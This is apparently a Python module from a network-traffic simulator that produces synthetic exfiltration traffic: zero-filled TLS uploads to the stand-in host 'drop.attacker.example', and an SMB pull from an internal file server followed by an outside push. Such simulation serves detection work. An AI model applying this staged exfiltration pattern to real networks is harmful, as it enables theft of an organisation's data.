"""Data leaves: in one grab, or pulled from a server inside first and pushed outside after.

Bulk payload is zeros in well-formed TLS and SMB records.
"""
from .smb import Smb
from .tcp import Tcp
from .tls import CURL, Tls


def upload(network, client, server, name, at_us, megabytes, seconds, version="1.3"):
    session = Tcp(network, client, server, 443, at_us, rtt_us=14000).open()
    talk = Tls(session, name, CURL, version).open()
    talk.bulk(0, round(megabytes * 1000000), seconds)
    talk.reply(300)
    session.close()


def grab(network, rng, client, name="drop.attacker.example", megabytes=600, seconds=180, pieces=3,
         start_s=1800):
    """`megabytes` to one outside name in `pieces` connections, one after another."""
    here = network.host(client)
    for piece in range(pieces):
        at_us = network.us(start_s + piece * seconds / pieces)
        server, at_us = network.lookup(here, name, at_us)
        upload(network, here, server, name, at_us, megabytes / pieces, seconds / pieces * 0.95)


def smuggle(network, rng, client, server, name="drop.attacker.example", pulled=300, pushed=240,
            start_s=1800, pause_s=300, pull_seconds=60, push_seconds=120):
    """`pulled` MB from an internal file server over SMB, then `pushed` MB outside over HTTPS."""
    here, there = network.host(client), network.host(server)
    session = Tcp(network, here, there, 445, network.us(start_s), rtt_us=300).open()
    Smb(session).open().pull(pulled * 1000000, pull_seconds)
    session.close()
    grab(network, rng, client, name, pushed, push_seconds, 1, start_s + pull_seconds + pause_s)
